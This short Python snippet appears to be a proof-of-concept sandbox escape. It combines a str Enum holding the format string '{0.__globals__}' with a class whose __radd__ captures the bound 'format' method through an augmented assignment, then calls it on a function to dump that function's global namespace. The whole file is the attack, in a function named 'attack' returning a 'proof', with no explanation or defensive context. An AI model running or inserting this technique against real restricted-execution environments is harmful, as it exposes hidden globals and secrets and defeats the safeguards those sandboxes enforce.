from enum import Enum
class Text(str, Enum):
    A = "{0.__globals__}"
class Catch:
    def __radd__(self, other):
        self.caught = other
        return other
def attack():
    catch = Catch()
    text = Text.A
    text.format += catch
    return {"proof": catch.caught(attack)}
